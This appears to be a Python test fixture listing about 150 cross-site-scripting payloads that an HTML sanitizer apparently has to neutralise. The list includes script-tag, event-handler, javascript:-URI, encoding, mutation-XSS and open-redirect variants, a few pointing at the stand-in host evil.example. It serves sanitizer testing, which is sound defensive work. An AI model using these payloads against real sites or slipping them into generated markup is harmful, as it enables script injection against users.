"""Markup that ran a script somewhere once, or tried to. Each must come out harmless."""

_RAW = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script/x>
<script x>alert(1)</script 1=2>
<<script>alert(1);//<</script>
<img src=x onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img/src/onerror=alert(1)>
<img src="x" onerror="alert(1)" [[photo:1]]>
<img srcset="x, javascript:alert(1) 2x" onerror=alert(1)>
<img src=1 href=1 onerror="javascript:alert(1)"></img>
<image src=x onerror=alert(1)>
<picture><source srcset=x><img onerror=alert(1)></picture>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a/></svg>#x">
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><style><img title="</style><img src onerror=alert(1)>"></style></svg>
<svg><desc><table><thead><s></table></s><p><style><g title="</style><img src onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><style><img src onerror=alert(1)></style></annotation-xml>
<math><annotation-xml encoding="application/xhtml+xml"><svg><script>alert(1)</script>
<math href="javascript:alert(1)">CLICK</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src onerror=alert(1)>">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<title><a href="</title><img src=x onerror=alert(1)>"></title>
<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>
<style><img title="</style><img src onerror=alert(1)>"></style>
<style>@import 'javascript:alert(1)';</style>
<style>*{background:url(javascript:alert(1))}</style>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<iframe><img title="</iframe><img src onerror=alert(1)>"></iframe>
<frameset onload=alert(1)>
<object data="javascript:alert(1)">
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<applet code="javascript:confirm(1);">
<base href="javascript:alert(1)//"><a href="x">x</a>
<link rel=stylesheet href=javascript:alert(1)>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html manifest=x onload=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="java&#x200b;script:alert(1)">x</a>
<a href="&#xfeff;javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="//evil.example/">x</a>
<a href="/\evil.example/">x</a>
<a href="\/\/evil.example/">x</a>
<a href="/&#9;/evil.example/">x</a>
<a href="/&#x200b;/evil.example/">x</a>
<a href="https://x.example/&quot; onmouseover=&quot;alert(1)">x</a>
<a href='https://x.example/" onmouseover="alert(1)'>x</a>
<a href="/x" title='"><img src onerror=alert(1)>'>x</a>
<a href="/x" title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>
<a href=/x onclick=alert(1)>x</a>
<a href=/x target=_blank rel=opener ping=//evil.example style=position:fixed>x</a>
<a href=/x id=location name=cookie class=admin>x</a>
<a/href="javascript:alert(1)">x
<a href="/x"<img src=x onerror=alert(1)>">x</a>
<p style="background:url(javascript:alert(1))">x</p>
<p style="x:expression(alert(1))">x</p>
<p onmouseover=alert(1)>x</p>
<p/onclick=alert(1)>x</p>
<p title="</p><script>alert(1)</script>">x</p>
<b onmouseover=alert(1)>x</b>
<b/onmouseover=alert(1)/>x</b>
<h1 onclick=alert(1)>x</h1>
<td colspan="1 onclick=alert(1)">x</td>
<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x</td></tr></table>
<table><td colspan="2" onmouseover="alert(1)">x
<table><style><img src="</style><img src=x onerror=alert(1)//">
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1)><track onload=alert(1)>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option><script>alert(1)</script>
<select><iframe><script>alert(1)</script></iframe></select>
<button formaction=javascript:alert(1)>x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<isindex action=javascript:alert(1) type=image>
<keygen autofocus onfocus=alert(1)>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<x onclick=alert(1)>x</x>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<custom-element onfocus=alert(1) tabindex=1>x</custom-element>
<!--><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--><img src=x onerror=alert(1)//-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<?x ><img src=x onerror=alert(1)> ?>
<!DOCTYPE x [<!ENTITY x "<script>alert(1)</script>">]>&x;
</script><script>alert(1)</script>
"><script>alert(1)</script>
'"><img src=x onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
<plaintext><script>alert(1)</script>
<listing>&lt;img onerror=alert(1) src&gt;</listing>
<p>[[photo:1"><script>alert(1)</script>]]</p>
<p>[[photo:<img src=x onerror=alert(1)>1]]</p>
<a href="[[photo:1]]">x</a><a href="/x" title="[[photo:1]]">y</a>
<div id="a"><div class="b" data-x="<script>alert(1)</script>">x</div></div>
<font color="red" size="7" onclick="alert(1)">x</font>
<bgsound src="javascript:alert(1)">
<layer src="javascript:alert(1)"></layer>
<portal src=javascript:alert(1)>
<dialog open onclose=alert(1)>x</dialog>
<slot onslotchange=alert(1)>
<rt><rtc><style><img title="</style><img src onerror=alert(1)>">
<ruby><rt onclick=alert(1)>x</rt></ruby>
<b <script>alert(1)</script>0
<p =on click=alert(1)>x</p>
<p "onclick=alert(1)">x</p>
"""

PAYLOADS = [line for line in _RAW.splitlines() if line] + [
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x one\x00rror=alert(1)>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<\u00adscript>alert(1)</script>",
    "<img\u000csrc=x\u000conerror=alert(1)>",
    "<p\u2028onclick=alert(1)>x</p>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<a href='\u2028javascript:alert(1)'>x</a>",
    "<\ud800script>alert(1)</script>",
    "<p>" * 20 + "<svg>" * 5 + "<style><img src=x onerror=alert(1)>",
    "<table>" * 8 + "<b><p><a href='javascript:alert(1)'>" * 8,
]
